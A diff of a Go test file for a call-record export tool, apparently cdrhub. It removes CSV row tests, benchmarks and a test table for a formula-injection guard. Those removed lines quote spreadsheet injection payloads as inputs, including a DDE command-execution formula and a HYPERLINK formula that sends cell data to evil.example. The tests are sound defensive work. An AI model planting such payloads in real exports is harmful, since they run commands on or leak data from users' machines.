@@ -2,7 +2,6 @@ package main
 
 import (
 	"encoding/csv"
-	"encoding/json"
 	"errors"
 	"fmt"
 	"io"
@@ -12,45 +11,12 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/cdrhub/cdrhub/internal/cdr"
+	"github.com/cdrhub/cdrhub/internal/export"
 	"github.com/google/go-cmp/cmp"
 )
 
-func TestCSVRow(t *testing.T) {
-	i64 := func(v int64) *int64 { return &v }
-	score := 5
-	r := &cdr.Record{
-		ID: "rec_x", Tenant: "acme", Channel: cdr.ChannelVoice, Source: cdr.SourceNative, SourceID: "s1", Version: 7,
-		StartAt: 1700000000123, AnswerAt: i64(1700000001000), EndAt: i64(1700000061000),
-		Direction: cdr.DirectionInbound, CallType: cdr.CallTypeDirect, Media: cdr.MediaAudio,
-		Disposition: cdr.DispositionAnswered, DispositionRaw: "ANSWERED", HangupBy: cdr.HangupByAgent,
-		Caller: cdr.Party{Address: "+86 139 1234 5678"}, Callee: cdr.Party{Address: "4001"},
-		Agents: []cdr.Agent{{ID: "a1", Name: "Zhang Min"}, {Name: "Bot"}},
-		Queues: []cdr.Queue{{ID: "q1", Name: "Sales"}},
-		TalkS:  i64(60), TotalS: i64(61), RingS: i64(0), QueueS: i64(3), IVRS: i64(4), HoldS: i64(5),
-		Satisfaction: &cdr.Satisfaction{Score: &score, Label: "great"},
-		Recordings:   []cdr.Recording{{URL: "https://x"}},
-		Tags:         []string{"vip", "a;b"}, CountryCode: "CN", Note: "said \"hi\",\nthen left",
-	}
-	want := []string{
-		"rec_x", "acme", "voice", "native", "s1", "7", "2023-11-14T22:13:20.123Z", "2023-11-14T22:13:21.000Z", "2023-11-14T22:14:21.000Z",
-		"inbound", "direct", "audio", "answered", "ANSWERED", "agent", "+86 139 1234 5678", "4001",
-		"a1;", "Zhang Min;Bot", "q1", "Sales", "60", "61", "0", "3", "4", "5", "5", "great", "true", "vip;a;b",
-		"CN", "said \"hi\",\nthen left",
-	}
-	if len(want) != len(csvHeader) {
-		t.Fatalf("%d values for %d columns", len(want), len(csvHeader))
-	}
-	if diff := cmp.Diff(want, csvRow(r)); diff != "" {
-		t.Errorf("(-want +got):\n%s", diff)
-	}
-	empty := csvRow(&cdr.Record{ID: "rec_y", StartAt: 1700000000000})
-	for i, col := range csvHeader {
-		if v := empty[i]; v != "" && col != "id" && col != "version" && col != "start_at" && col != "has_recording" {
-			t.Errorf("%s of an empty record: %q", col, v)
-		}
-	}
-}
+// csvHeader is the header line of a CSV export.
+var csvHeader = export.Header()
 
 func TestExportErrors(t *testing.T) {
 	var tags101 []string
@@ -117,101 +83,6 @@ func TestExportFlagsMirrorTheAPI(t *testing.T) {
 		out, stderr, err := runCLI(t, nil, append([]string{"export", "--config", cfg}, tt.args...)...)
 		if n := len(exportedNDJSON(t, out)); err != nil || n != tt.want {
 			t.Errorf("%q: %d records, %v, want %d\n%s", tt.args, n, err, tt.want, stderr)
-		}
-	}
-}
-
-func TestEscapeFormula(t *testing.T) {
-	tests := []struct{ in, want string }{
-		{"", ""},
-		{"plain", "plain"},
-		{"Zhang Min", "Zhang Min"},
-		{"a=b", "a=b"},
-		{" =1+1", " =1+1"},
-		{"'=1", "'=1"},
-		{"=1+1", "'=1+1"},
-		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
-		{`=HYPERLINK("http://evil.example/?d="&A1,"x")`, `'=HYPERLINK("http://evil.example/?d="&A1,"x")`},
-		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
-		{"\t=1", "'\t=1"},
-		{"\r=1", "'\r=1"},
-		{"\n=1", "\n=1"},
-		{"=", "'="},
-		{"@", "'@"},
-		// + and - pass when number-like: ^[+-][0-9][0-9 ().*-]*$
-		{"+86 139 1234 5678", "+86 139 1234 5678"},
-		{"+8613912345678", "+8613912345678"},
-		{"+86 (20) 6666-8888", "+86 (20) 6666-8888"},
-		{"+86139****5678", "+86139****5678"},
-		{"-1", "-1"},
-		{"-1.5", "-1.5"},
-		{"+0", "+0"},
-		{"+", "'+"},
-		{"-", "'-"},
-		{"--", "'--"},
-		{"+ 86 139", "'+ 86 139"},
-		{"+(86) 139", "'+(86) 139"},
-		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
-		{"+SUM(1,2)", "'+SUM(1,2)"},
-		{"-1+1", "'-1+1"},
-		{"+1/2", "'+1/2"},
-		{"+86 139 1234 5678,A1", "'+86 139 1234 5678,A1"},
-		{"-A1", "'-A1"},
-		{"+1e5", "'+1e5"},
-		{"+1\t", "'+1\t"},
-		{"1+1", "1+1"},
-		{"4008208820", "4008208820"},
-	}
-	for _, tt := range tests {
-		if got := escapeFormula(tt.in); got != tt.want {
-			t.Errorf("escapeFormula(%q) = %q, want %q", tt.in, got, tt.want)
-		}
-	}
-}
-
-// Ordinary cells pass without an allocation: the guard costs a CSV export
-// a byte comparison per cell.
-func TestEscapeFormulaAllocs(t *testing.T) {
-	cells := []string{"rec_abcdefghijklmnopqrstuvwx", "+86 139 1234 5678", "-1", "2023-11-14T22:13:20.123Z", "Zhang Min;Bot", ""}
-	if n := testing.AllocsPerRun(100, func() {
-		for _, c := range cells {
-			escapeFormula(c)
-		}
-	}); n != 0 {
-		t.Errorf("%v allocations per row of ordinary cells", n)
-	}
-}
-
-func BenchmarkCSVWrite(b *testing.B) {
-	for _, escape := range []bool{false, true} {
-		b.Run(fmt.Sprintf("escape=%v", escape), func(b *testing.B) {
-			recs := make([]exportRecord, 1000)
-			for i := range recs {
-				recs[i].raw = json.RawMessage(testRecord("b", i))
-			}
-			w := newRecordWriter(io.Discard, "csv", escape)
-			b.ReportAllocs()
-			for i := 0; b.Loop(); i++ {
-				if err := w.write(recs[i%len(recs)]); err != nil {
-					b.Fatal(err)
-				}
-			}
-		})
-	}
-}
-
-// BenchmarkEscapeFormula is the guard's share of BenchmarkCSVWrite: one
-// row of ordinary cells.
-func BenchmarkEscapeFormula(b *testing.B) {
-	var r cdr.Record
-	if err := json.Unmarshal([]byte(testRecord("b", 4)), &r); err != nil {
-		b.Fatal(err)
-	}
-	row := csvRow(&r)
-	b.ReportAllocs()
-	for b.Loop() {
-		for i, v := range row {
-			row[i] = escapeFormula(v)
 		}
 	}
 }
